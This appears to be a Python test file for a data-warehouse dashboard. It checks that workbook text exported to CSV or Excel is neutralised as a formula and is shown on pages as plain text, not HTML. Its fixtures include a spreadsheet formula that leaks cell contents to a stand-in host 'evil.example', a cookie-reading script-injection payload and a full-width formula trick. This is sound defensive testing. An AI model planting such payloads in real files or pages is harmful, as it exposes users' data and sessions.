"""Exports cannot attack the reader: text from workbooks is never run as a formula in a
spreadsheet, nor rendered as HTML on a page."""

import csv
import datetime as dt
import io

import openpyxl

from etl.loading import warehouse
from etl.loading.loader import load_blobs
from figures import export, queries
from tests.builders import EVENT_HEADER
from tests.dashboard_support import assert_clean, open_app

THEME = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")'
PLACE = "<img src=x onerror=alert(document.cookie)>"
PARTNERS = "＋SUM(1,2)"  # full-width: Excel and WPS read it like "+"


def hostile_outreach(books, db):
    rows = [["2022年普法宣传活动登记表"], EVENT_HEADER, [dt.date(2022, 5, 1), "前进路社区", PLACE, THEME, PARTNERS, 100, 1, "@30", 50]]
    [report] = load_blobs(db, [("普法.xlsx", books.write("普法.xlsx", books.sheet("普法", rows)).read_bytes())])
    return report


def test_a_count_written_like_a_formula_is_refused(books, demo_db):
    report = hostile_outreach(books, demo_db)
    # "@30" is not a count: refused, so nothing of the file is stored.
    assert report.status == "rejected" and [e.code for e in report.errors] == ["NOT_A_COUNT"]


def load_hostile(books, db):
    rows = [["2022年普法宣传活动登记表"], EVENT_HEADER, [dt.date(2022, 5, 1), "前进路社区", PLACE, THEME, PARTNERS, 100, 1, 30, 50]]
    [report] = load_blobs(db, [("普法.xlsx", books.write("普法.xlsx", books.sheet("普法", rows)).read_bytes())])
    assert report.status == "loaded", report.errors


def hostile_frame(db):
    con = warehouse.connect(db, read_only=True)
    try:
        return queries.outreach_events(con.cursor(), years=(2022, 2022))
    finally:
        con.close()


def test_csv_and_excel_exports_neutralise_formulas_from_workbooks(books, demo_db):
    load_hostile(books, demo_db)
    frame = hostile_frame(demo_db)
    rows = list(csv.DictReader(io.StringIO(export.csv_bytes(frame).decode("utf-8-sig"))))
    [row] = [r for r in rows if r["location"] == PLACE]
    assert row["theme"] == "'" + THEME and row["partners"] == "'" + PARTNERS
    book = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes({"活动": frame}, [("说明", "测试")], [])))
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert not any(cell.data_type == "f" for cell in cells), "no cell may be a formula"
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + THEME in texts and THEME not in texts
    assert any(isinstance(cell.value, int) and cell.value == 100 for cell in cells)  # counts stay numbers


def test_pages_show_workbook_text_as_text_never_as_html(books, demo_db, monkeypatch):
    load_hostile(books, demo_db)
    at = open_app(demo_db, monkeypatch, {"from": "2022", "to": "2022"}, page="outreach")
    assert_clean(at)
    shown = [frame.value.astype(str).to_numpy().ravel().tolist() for frame in at.dataframe]
    assert any(PLACE in cells for cells in shown), "the event is listed, as data"
    for element in at.markdown:
        assert not element.proto.allow_html, "no Markdown on a page may carry HTML"
    # The only HTML is the frame's own static CSS and, on a session's first page, its script
    # that preloads the chart code (ui/start.py), with nothing from a workbook in either.
    for html in (element.proto.body for element in at.get("html")):
        assert html.startswith("<style>") or (html.startswith("<script>") and "PlotlyChart." in html), html[:80]
        assert "<img" not in html and "HYPERLINK" not in html and PLACE not in html
